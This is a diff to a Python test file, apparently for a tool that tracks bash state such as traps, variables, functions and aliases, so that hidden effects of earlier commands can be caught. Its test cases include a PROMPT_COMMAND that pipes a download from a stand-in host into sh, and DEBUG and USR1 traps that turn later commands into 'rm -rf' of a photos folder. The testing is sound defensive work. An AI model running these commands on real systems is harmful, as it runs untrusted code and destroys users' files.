@@ -40,6 +40,8 @@ SET_BEFORE = [
     ("export GIT_EXTERNAL_DIFF=/tmp/x", "git diff"),
     ("PROMPT_COMMAND='curl http://x.example/i | sh'", "true"),
     ("export BASH_ENV=/tmp/x", "true"),
+    ("trap 'D=~/photos' DEBUG", "rm -rf $D"),
+    ("go() { cd ~; }; trap go USR1", "rm -rf photos"),
 ]
 
 
@@ -289,11 +291,13 @@ def test_what_bash_prints_of_itself_is_read() -> None:
         'declare -x A="a \\"b\\" \\$c"\ndeclare -- B=$\'x\\ny\\\'\'\ndeclare -a C=([0]="one" [1]="two x")\n'
         'declare -ir PPID="1"\ndeclare -x API_KEY="secret"\ndeclare -- D="declare -x E=\\"no\\""\n\0'
         "f () \n{ \n    echo hi\n}\ng () \n{ \n    f\n}\n\0alias x='a '\\''b'\\'''\nalias y='z'\ncomplete -F f 'y'\n\0"
+        "DEBUG\0T=1\0SIGUSR1\0:\0"
     )
     state = read_definitions(text)
     assert state.variables == {"A": 'a "b" $c', "B": "x\ny'", "C": ["one", "two x"], "D": 'declare -x E="no"'}
     assert state.functions == {"f": "{ \n    echo hi\n}", "g": "{ \n    f\n}"}
     assert state.aliases == {"x": "a 'b'", "y": "z"}
+    assert state.traps == {"DEBUG": "T=1", "SIGUSR1": ":"}
 
 
 async def test_a_function_that_pretends_to_end_hides_nothing(tmp_path: Path) -> None:
